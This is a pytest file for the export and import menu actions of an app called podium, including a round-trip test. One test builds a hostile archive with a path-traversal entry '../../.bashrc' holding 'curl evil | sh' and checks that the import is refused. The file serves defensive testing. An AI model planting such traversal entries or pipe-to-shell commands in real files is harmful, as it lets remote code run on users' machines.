"""File ▸ Export preparation… / Import preparation…: through the real menu actions and the library."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from podium.core.model import ImageBlock
from podium.core.storage import package
from podium.core.storage.store import Store
from podium.ui.common import messages
from podium.ui.window.main_window import MainWindow
from tests.helpers import make_prep
from tests.ui.conftest import Dialogs


@pytest.fixture
def open_path(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    chosen = {"path": ""}
    monkeypatch.setattr(messages, "ask_open_path", lambda *_a: chosen["path"])
    return chosen


def test_export_is_offered_only_with_a_preparation_open(window: MainWindow) -> None:
    assert not window.export_prep_action.isEnabled()
    assert window.import_prep_action.isEnabled()
    window.create_preparation(make_prep("marketing"))
    assert window.export_prep_action.isEnabled()
    texts = [a.text() for a in window.menuBar().actions()[0].menu().actions()]
    assert "E&xport preparation…" in texts and "&Import preparation…" in texts


def test_export_then_import_gives_a_second_identical_preparation(
    window: MainWindow, store: Store, dialogs: Dialogs, open_path: dict[str, str], tmp_path: Path
) -> None:
    prep = make_prep("finance", "sv", company="Nordvik AB")
    Image.new("RGB", (30, 30), "#3BB273").save(tmp_path / "chart.png")
    window.create_preparation(prep)
    prep.deck.slides[2].blocks.append(ImageBlock(path=str(tmp_path / "chart.png"), alt="Trend"))
    window.session.deck_edited()
    window.workspace.deck.select(1)
    window.workspace.deck.notes.setPlainText("Svaret först: marginalen föll två punkter.")
    dialogs.save_path = str(tmp_path / "nordvik")  # the suffix is added
    window.export_prep_action.trigger()
    exported = tmp_path / "nordvik.podium"
    assert exported.exists() and not dialogs.errors
    assert "nordvik.podium" in window.statusBar().currentMessage()

    open_path["path"] = str(exported)
    window.import_prep_action.trigger()
    assert not dialogs.errors
    assert len(store) == 2
    imported = window.prep
    assert imported is not None and imported.id != prep.id
    assert imported.deck.slides[1].notes == "Svaret först: marginalen föll två punkter."
    assert Path(imported.deck.slides[2].blocks[-1].path).read_bytes() == (tmp_path / "chart.png").read_bytes()
    assert window.pages.currentWidget() is window.workspace


def test_hostile_file_is_refused_with_a_message_and_nothing_changes(
    window: MainWindow, store: Store, dialogs: Dialogs, open_path: dict[str, str], tmp_path: Path
) -> None:
    store.save(make_prep("marketing"))
    window.library.refresh()
    hostile = tmp_path / "slip.podium"
    with zipfile.ZipFile(hostile, "w") as archive:
        manifest = {
            "format": package.FORMAT,
            "version": 1,
            "preparation": make_prep().to_dict(),
            "assets": {},
        }
        archive.writestr(package.DOCUMENT, json.dumps(manifest))
        archive.writestr("../../.bashrc", "curl evil | sh")
    open_path["path"] = str(hostile)
    window.import_prep_action.trigger()
    assert dialogs.errors and dialogs.errors[0][0] == "Cannot import"
    assert "points outside" in dialogs.errors[0][1]
    assert len(store) == 1 and window.pages.currentWidget() is window.library
    window.create_preparation(make_prep("finance"))  # the app carries on
    assert len(store) == 2


def test_cancelled_dialogs_do_nothing(
    window: MainWindow, store: Store, dialogs: Dialogs, open_path: dict[str, str]
) -> None:
    window.import_prep_action.trigger()
    window.create_preparation(make_prep())
    window.export_prep_action.trigger()
    assert not dialogs.errors and len(store) == 1
